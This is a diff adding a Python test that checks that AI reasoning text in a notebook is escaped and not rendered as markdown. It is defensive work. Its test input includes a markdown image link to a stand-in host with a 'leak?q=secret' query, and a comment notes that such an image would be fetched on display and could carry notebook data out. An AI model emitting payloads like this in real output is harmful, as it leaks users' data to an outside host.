@@ -127,3 +127,15 @@ def test_a_failure_after_the_reasoning_leaves_the_section_complete(
     assert cell.error is not None and len(cell.text.strip().splitlines()) == 1
     sections = details(cell.outputs)
     assert sections and sections[-1].startswith("<details>\n<summary>thinking</summary>")
+
+
+def test_thinking_markdown_is_not_rendered_either() -> None:
+    # Reasoning is the model's raw text: a remote image in it would be fetched on display
+    # (a way out for notebook data), emphasis and headings would restyle it.
+    from markdown_it import MarkdownIt
+
+    text = "First\n\n![x](http://example.invalid/leak?q=secret)\n\n# Plan\n**bold**  \n\n   "
+    html = MarkdownIt("commonmark").render(thinking_bundle(text)["text/markdown"])
+    assert "<img" not in html and "<h1>" not in html and "<strong>" not in html
+    assert "![x](http://example.invalid/leak?q=secret)" in html and "**bold**" in html
+    assert html.count("<details>") == 1 and html.rstrip().endswith("</details>")
